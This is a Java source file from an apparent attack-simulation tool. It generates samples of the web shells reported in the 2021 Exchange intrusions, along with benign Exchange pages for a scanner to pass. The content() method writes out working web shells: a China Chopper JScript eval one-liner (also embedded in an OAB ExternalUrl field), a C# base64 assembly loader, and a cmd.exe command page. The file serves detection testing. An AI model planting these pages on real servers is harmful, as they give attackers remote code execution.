package kahu.simulate;

import java.util.List;
import java.util.Map;


/**
 * The web shells the 2021 Exchange intrusions dropped, as public reports describe them (Microsoft's
 * HAFNIUM post of 2 March 2021, CISA AA21-062A, ESET's "Exchange servers under siege"): where they
 * were written and what kind of page they were. The page texts are our own, with the traits reported.
 */
final class WebShells {
    private WebShells() {}

    /** Kinds: the OAB virtual-directory settings file with China Chopper in ExternalUrl; a JScript one-liner; a C# assembly loader; a command page. */
    static final List<String> KINDS = List.of("aspx-loader", "aspxspy-like", "chopper-jscript", "oab-chopper");

    /** Folder key → {Windows folder, URL path}. */
    static final Map<String, String[]> DIRS = Map.of(
            "aspnet_client", new String[] {"C:\\inetpub\\wwwroot\\aspnet_client\\", "/aspnet_client/"},
            "aspnet_client_system_web", new String[] {"C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\", "/aspnet_client/system_web/"},
            "owa_auth", new String[] {"C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\", "/owa/auth/"});

    /** Exchange's own pages in owa/auth, written at installation: the benign pages beside the shells. */
    static final List<String> EXCHANGE_PAGES = List.of("logon.aspx", "logoff.aspx", "errorFE.aspx", "expiredpassword.aspx", "signout.aspx",
            "frowny.aspx");

    static String content(String kind, String password, Organisation org, Organisation.Host host) {
        return switch (kind) {
            case "oab-chopper" -> "Name                            : OAB (Default Web Site)\r\n"
                    + "PollInterval                    : 480\r\n"
                    + "OfflineAddressBooks             :\r\n"
                    + "RequireSSL                      : True\r\n"
                    + "BasicAuthentication             : False\r\n"
                    + "WindowsAuthentication           : True\r\n"
                    + "OAuthAuthentication             : False\r\n"
                    + "MetabasePath                    : IIS://" + host.name() + "/W3SVC/1/ROOT/OAB\r\n"
                    + "Path                            : C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\OAB\r\n"
                    + "Server                          : " + host.shortName() + "\r\n"
                    + "InternalUrl                     : https://" + host.name().toLowerCase(java.util.Locale.ROOT) + "/OAB\r\n"
                    + "ExternalUrl                     : http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\""
                    + password + "\"],\"unsafe\");}</script>\r\n"
                    + "AdminDisplayName                :\r\n"
                    + "ExchangeVersion                 : 0.10 (14.0.100.0)\r\n"
                    + "DistinguishedName               : CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=" + host.shortName()
                    + ",CN=Servers,CN=Exchange Administrative Group,CN=Administrative Groups,CN=" + org.netbios()
                    + ",CN=Microsoft Exchange,CN=Services,CN=Configuration,DC=" + org.netbios().toLowerCase(java.util.Locale.ROOT) + ",DC=local\r\n";
            case "chopper-jscript" -> "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"" + password + "\"],\"unsafe\");%>";
            case "aspx-loader" -> "<%@ Page Language=\"C#\" %><%@ Import Namespace=\"System.Reflection\" %>\r\n"
                    + "<script runat=\"server\">\r\n"
                    + "protected void Page_Load(object sender, EventArgs e) {\r\n"
                    + "    string k = Request.Form[\"" + password + "\"];\r\n"
                    + "    if (k != null) { Assembly.Load(Convert.FromBase64String(k)).CreateInstance(\"U\").Equals(this); }\r\n"
                    + "}\r\n"
                    + "</script>\r\n";
            case "aspxspy-like" -> "<%@ Page Language=\"C#\" %><%@ Import Namespace=\"System.Diagnostics\" %>\r\n"
                    + "<script runat=\"server\">\r\n"
                    + "protected void Page_Load(object sender, EventArgs e) {\r\n"
                    + "    if (Request.Form[\"" + password + "\"] == null) return;\r\n"
                    + "    Process p = Process.Start(new ProcessStartInfo(\"cmd.exe\", \"/c \" + Request.Form[\"" + password + "\"]) "
                    + "{ UseShellExecute = false, RedirectStandardOutput = true });\r\n"
                    + "    Response.Write(p.StandardOutput.ReadToEnd());\r\n"
                    + "}\r\n"
                    + "</script>\r\n";
            default -> throw new IllegalArgumentException("unknown web shell kind " + kind);
        };
    }

    /** A benign Exchange page: markup only, no server-side script (what the web-shell scanner should pass). */
    static String benignPage(String name) {
        return "<%@ Page Language=\"C#\" AutoEventWireup=\"false\" Inherits=\"Microsoft.Exchange.HttpProxy.OwaPage\" %>\r\n"
                + "<!DOCTYPE html>\r\n<html><head><title>Outlook</title></head>\r\n<body class=\"" + name.replace(".aspx", "") + "\">\r\n"
                + "<div id=\"main\"></div>\r\n</body></html>\r\n";
    }

    /** Where a Windows path lands under the server's folder: the drive dropped, backslashes as slashes. */
    static String relative(String windowsPath) {
        String p = windowsPath.length() > 2 && windowsPath.charAt(1) == ':' ? windowsPath.substring(3) : windowsPath;
        return p.replace('\\', '/');
    }
}
